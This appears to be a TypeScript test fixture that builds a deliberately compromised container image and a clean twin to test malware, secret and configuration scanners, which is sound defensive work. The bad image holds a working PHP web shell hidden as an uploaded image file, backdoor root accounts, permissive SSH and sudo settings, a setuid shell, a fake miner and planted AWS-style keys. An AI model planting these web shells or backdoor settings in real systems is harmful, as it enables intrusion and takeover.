// Test images for the content scanners (malware, secret, baseline, files):
// a "bad" image with one of each problem and its clean twin. Real layers and
// configs via image-builder; the malicious files are harmless text that carries
// the patterns real samples carry (EICAR is assembled at run time).
import type { FileSpec, ImageSpec } from './image-builder.js';

/** An AWS-style access key id that is not AWS's documented example (those are allowlisted). */
export const AWS_KEY_ID = 'AKIA' + 'Q3EGRJ7X5MZT2WPL';
export const AWS_SECRET = 'q8Jz1Vt4Lw9Rk2Ym5Nb7Xc3Hd6Gf0Sa1Pe4Uo8Ti';
export const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);

function fakeMiner(): Buffer {
  const strings = ['XMRig 6.21.0', 'stratum+tcp://pool.minexmr.example:4444', '--donate-level=1', 'randomx', 'cryptonight', '--cpu-priority'];
  return Buffer.concat([ELF, Buffer.alloc(200), Buffer.from(strings.join('\0'))]);
}

const PASSWD_CLEAN = 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\napp:x:1000:1000::/home/app:/bin/sh\n';
const SHADOW_CLEAN = 'root:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\napp:!:19000:0:99999:7:::\n';
const GROUP = 'root:x:0:\ndaemon:x:1:\napp:x:1000:\n';

function common(): FileSpec[] {
  return [
    { path: 'etc/group', content: GROUP },
    { path: 'usr/bin/passwd', content: Buffer.concat([ELF, Buffer.from('passwd')]), mode: 0o4755 },
    { path: 'usr/local/bin/app', content: Buffer.concat([ELF, Buffer.from('app binary')]), mode: 0o755 },
    { path: 'var/www/html/index.php', content: '<?php echo htmlspecialchars($_GET["q"] ?? "", ENT_QUOTES); ?>\n' },
    { path: 'app/.env', content: 'DB_HOST=db\nDB_USER=app\nDB_PASSWORD=${DB_PASSWORD}\n' },
    { path: 'usr/share/doc/awscli/examples/config', content: `aws_access_key_id = ${AWS_KEY_ID}\n` },
  ];
}

export function badImage(): ImageSpec {
  return {
    layers: [
      {
        files: [
          ...common(),
          { path: 'etc/passwd', content: PASSWD_CLEAN + 'toor:x:0:0::/root:/bin/bash\n' },
          {
            path: 'etc/shadow',
            content: 'root::19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\napp:!:19000:0:99999:7:::\ntoor:$6$x$y:19000::::::\nghost:$6$a$b:19000::::::\n',
          },
          { path: 'etc/ssh/sshd_config', content: 'Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\nPermitEmptyPasswords yes\n' },
          { path: 'etc/sudoers.d/app', content: 'app ALL=(ALL) NOPASSWD: ALL\n' },
          { path: 'usr/local/bin/.sh', content: Buffer.concat([ELF, Buffer.from('bash copy')]), mode: 0o4755 },
          { path: 'var/www/html/uploads/img.php', content: '<?php @eval(base64_decode($_POST["c"])); ?>\n' },
          { path: 'tmp/.x/kworker', content: fakeMiner(), mode: 0o755 },
          { path: 'app/config/prod.env', content: `REGION=eu-west-1\nAWS_ACCESS_KEY_ID=${AWS_KEY_ID}\nAWS_SECRET_ACCESS_KEY=${AWS_SECRET}\n` },
          { path: 'root/.aws/credentials', content: `[default]\naws_access_key_id = ${AWS_KEY_ID}\n` },
          { path: 'opt/eicar.com', content: EICAR },
        ],
        createdBy: 'ADD https://downloads.example.org/tool.tar.gz /opt/',
      },
      // A later layer deletes the credentials file: it still ships in layer 0.
      { files: [{ path: 'root/.aws/.wh.credentials' }], createdBy: 'RUN rm /root/.aws/credentials' },
    ],
    config: {
      config: {
        Env: ['PATH=/usr/local/bin:/usr/bin:/bin', `AWS_ACCESS_KEY_ID=${AWS_KEY_ID}`],
        Labels: { 'org.opencontainers.image.base.name': 'debian:latest' },
      },
    },
  };
}

export function cleanImage(): ImageSpec {
  return {
    layers: [
      {
        files: [
          ...common(),
          { path: 'etc/passwd', content: PASSWD_CLEAN },
          { path: 'etc/shadow', content: SHADOW_CLEAN },
          { path: 'etc/ssh/sshd_config', content: 'PermitRootLogin no\nPasswordAuthentication no\n' },
          { path: 'etc/sudoers.d/app', content: 'app ALL=(ALL) ALL\n' },
          { path: 'usr/local/bin/sh-wrapper', content: Buffer.concat([ELF, Buffer.from('wrapper')]), mode: 0o755 },
          { path: 'var/www/html/uploads/.keep', content: '' },
          { path: 'tmp/.keep', content: '' },
          { path: 'app/config/prod.env', content: 'REGION=eu-west-1\nAWS_PROFILE=prod\n' },
        ],
        createdBy: 'COPY rootfs/ /',
      },
      { files: [{ path: 'app/README', content: 'app\n' }], createdBy: 'COPY README /app/' },
    ],
    config: {
      config: {
        User: 'app',
        Env: ['PATH=/usr/local/bin:/usr/bin:/bin', 'AWS_REGION=eu-west-1'],
        Healthcheck: { Test: ['CMD', '/usr/local/bin/app', 'health'] },
        Labels: { 'org.opencontainers.image.base.name': 'debian:12.5@sha256:' + 'a'.repeat(64) },
      },
    },
  };
}
